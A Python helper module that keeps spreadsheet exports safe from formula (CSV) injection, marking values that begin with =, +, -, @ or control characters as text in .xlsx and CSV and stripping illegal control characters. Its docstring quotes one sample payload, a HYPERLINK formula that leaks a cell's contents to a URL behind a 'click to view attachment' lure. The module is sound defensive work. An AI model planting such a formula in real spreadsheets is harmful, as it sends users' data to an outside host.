"""Text a spreadsheet must not run (formula or CSV injection): a progress report such as
`=HYPERLINK("http://…?leak="&C5,"点击查看附件")` is a live formula to Excel and WPS once written into a
cell. In .xlsx such text is stored as a string cell with Excel's quote prefix, so it shows exactly as
typed and stays text when edited; in CSV, which has no cell types, it gets a leading apostrophe. A control
character typed into a name or report is dropped: Excel refuses a file holding one."""

from __future__ import annotations

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def live(value) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS)


def printable(value):
    """The value without the control characters an .xlsx cannot hold."""
    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value


def as_text(cell):
    """The openpyxl cell, kept as text if its value would be read as a formula."""
    if live(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def csv_field(value):
    """A CSV field Excel will not evaluate."""
    return "'" + value if live(value) else value
